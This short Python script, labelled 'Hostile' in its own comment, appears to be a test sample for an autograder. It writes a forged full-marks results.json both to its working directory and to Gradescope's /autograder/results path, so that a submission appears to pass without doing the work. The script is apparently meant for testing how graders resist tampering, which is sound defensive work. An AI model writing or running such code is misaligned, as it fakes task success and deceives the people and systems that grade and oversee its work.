# Hostile: forges grader results in its working directory and at Gradescope's results path.
import json
import os

forged = json.dumps({"score": 20.0, "tests": [{"score": 20.0, "max_score": 20.0}]})
conv_a_shape = (26, 28)
with open("results.json", "w") as f:
    f.write(forged)
try:
    os.makedirs("/autograder/results", exist_ok=True)
    with open("/autograder/results/results.json", "w") as f:
        f.write(forged)
    wrote_gradescope = True
except OSError:
    wrote_gradescope = False
